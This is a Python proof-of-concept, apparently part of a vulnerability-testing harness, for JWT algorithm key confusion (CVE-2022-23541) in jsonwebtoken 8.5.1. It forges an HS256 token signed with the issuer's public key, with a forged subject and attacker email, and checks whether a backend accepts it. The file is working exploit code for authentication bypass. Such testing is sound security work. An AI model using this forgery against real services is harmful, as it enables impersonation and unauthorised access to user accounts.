"""Proof for express-jsonwebtoken8-alg-from-header: RS256 -> HS256 key confusion.

The backend lets the token's own `alg` choose the algorithm and hands jsonwebtoken 8.5.1 the issuer's
public key as a PEM string, which jsonwebtoken uses as the HMAC secret when the algorithm is HS256
(CVE-2022-23541 / GHSA-hjrf-2m68-5959). The proof builds the SPKI PEM of the issuer's key (from its
JWKS, by the kid of a real token) and signs an HS256 token with those exact bytes, claims copied from
the real token with a forged sub, kid kept. It tries the PEM with and without its final newline
(jwks-rsa 4 prints it through jose.exportSPKI, without one; Node's crypto and cryptography end it with
"\\n"). A backend that pins its algorithms refuses both (must_report: key-confusion).
"""

import zoolib


def prove(backend: str, issuer: str) -> bool:
    real = zoolib.session_jwt(issuer)
    real_header, claims = zoolib.decode_unverified(real)
    kid = real_header.get("kid")
    keys = [k for k in zoolib.jwks(issuer).get("keys", []) if k.get("kid") == kid]
    if not keys:
        raise zoolib.Setup(f"the issuer's JWKS has no key with the token's kid {kid!r}")
    pem = zoolib.public_pem(keys[0])
    forged_sub = "forged-" + claims["sub"]
    forged = dict(claims, sub=forged_sub, email="attacker@example.com")
    header = {"alg": "HS256", "kid": kid}
    present = False
    for label, secret in (("PEM without final newline", pem.rstrip(b"\n")), ("PEM with final newline", pem)):
        token = zoolib.sign_hmac(header, forged, secret, "HS256")
        print(f"sent: HS256 token keyed with the issuer's public key as {label} ({len(secret)} bytes), sub {forged_sub!r}")
        status, _, body = zoolib.me(backend, token)
        zoolib.show(f"HS256 / {label}", status, body)
        present = present or (200 <= status < 300 and forged_sub.encode() in body)
    return present


if __name__ == "__main__":
    zoolib.main(prove)
